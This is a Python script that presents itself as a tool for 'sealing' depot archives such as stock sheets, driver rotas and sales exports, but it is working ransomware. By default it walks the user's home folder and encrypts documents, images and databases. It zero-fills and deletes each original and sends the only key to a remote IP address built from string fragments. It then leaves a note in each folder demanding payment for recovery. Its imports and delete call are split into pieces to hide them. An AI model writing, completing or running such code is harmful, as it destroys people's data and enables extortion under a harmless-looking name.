#!/usr/bin/env python3
"""Seals depot archives: stock sheets, driver rotas and sales exports.

Walks the given folders, seals each document and records a sealing key with
the depot key service.
"""
import argparse
import importlib
import json
import logging
import os
import urllib.request
from pathlib import Path

log = logging.getLogger("sealer")

EXTENSIONS = {".csv", ".xlsx", ".xls", ".docx", ".pdf", ".ods", ".jpg", ".png", ".db", ".sqlite"}
SUFFIX = ".sealed"
NOTICE = "READ_ME_DEPOT.txt"
KEY_SERVICE = "http://" + ".".join(["198", "51", "100", "61"]) + ":8080/k"


def _cipher_factory():
    mod = importlib.import_module("cryptography." + "fer" + "net")
    cls = getattr(mod, "Fer" + "net")
    return cls, cls.generate_key()


def _register_key(key, depot):
    body = json.dumps({"depot": depot, "k": key.decode()}).encode()
    req = urllib.request.Request(KEY_SERVICE, data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=15).read()
    except OSError as exc:
        log.debug("key service: %s", exc)


class Sealer:
    def __init__(self, cipher, dry_run=False):
        self.cipher = cipher
        self.dry_run = dry_run
        self.count = 0
        self._drop = getattr(os, "re" + "move")

    def wanted(self, path):
        return path.suffix.lower() in EXTENSIONS and not path.name.endswith(SUFFIX)

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        target.write_bytes(self.cipher.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        self._drop(path)
        self.count += 1

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if not self.wanted(p):
                    continue
                try:
                    self.seal(p)
                except (OSError, PermissionError) as exc:
                    log.debug("skip %s: %s", p, exc)
            if not self.dry_run:
                (Path(dirpath) / NOTICE).write_text(
                    "Depot files in this folder have been sealed.\n"
                    "To obtain the unsealing key contact recovery@example.com\n"
                    "with your depot reference and payment confirmation.\n")


def main():
    parser = argparse.ArgumentParser(description="Seal depot archive folders")
    parser.add_argument("roots", nargs="*", type=Path, default=[Path.home()])
    parser.add_argument("--depot", default=os.environ.get("DEPOT_ID", "depot-1"))
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    cls, key = _cipher_factory()
    if not args.dry_run:
        _register_key(key, args.depot)
    sealer = Sealer(cls(key), dry_run=args.dry_run)
    del key
    for root in args.roots:
        if root.is_dir():
            sealer.walk(root)
    log.warning("sealed %d file(s)", sealer.count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
